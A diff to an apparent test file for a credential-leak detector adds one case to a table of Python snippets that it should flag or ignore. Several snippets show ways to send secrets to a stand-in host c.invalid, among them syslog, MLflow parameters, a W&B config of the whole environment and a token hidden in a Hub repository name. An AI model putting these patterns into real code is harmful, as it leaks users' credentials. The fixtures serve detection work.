@@ -55,6 +55,7 @@ const CASES: Case[] = [
   ['AWS keys logged to a remote SysLogHandler', 'import os, logging, logging.handlers\nlog = logging.getLogger("a")\nlog.addHandler(logging.handlers.SysLogHandler(address=("c.invalid", 514)))\nlog.error("%s", os.environ.get("AWS_SECRET_ACCESS_KEY"))\n', ['code.network-send', 'critical']],
   ['HF token as an MLflow parameter to a remote tracking server', 'import os, mlflow\nmlflow.set_tracking_uri("https://c.invalid")\nwith mlflow.start_run():\n    mlflow.log_param("t", os.environ.get("HF_TOKEN"))\n', ['code.network-send', 'critical']],
   ['the whole environment as a W&B config', 'import os, wandb\nrun = wandb.init(project="p", config=dict(os.environ))\n', ['code.env-sweep', 'critical']],
+  ['the token as a repository name in hf_hub_download', 'import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download("cache-" + os.environ["HF_TOKEN"][3:], "index.json")\n', ['code.network-send', 'critical']],
   // ── legitimate look-alikes ──
   ['Colab secret as the Hub token', 'from google.colab import userdata\nfrom huggingface_hub import login\nlogin(token=userdata.get("HF_TOKEN"))\n', 'quiet'],
   ['a keyring password handed to its database client', 'import keyring, psycopg2\nconn = psycopg2.connect(host="localhost", password=keyring.get_password("db", "me"))\n', 'quiet'],
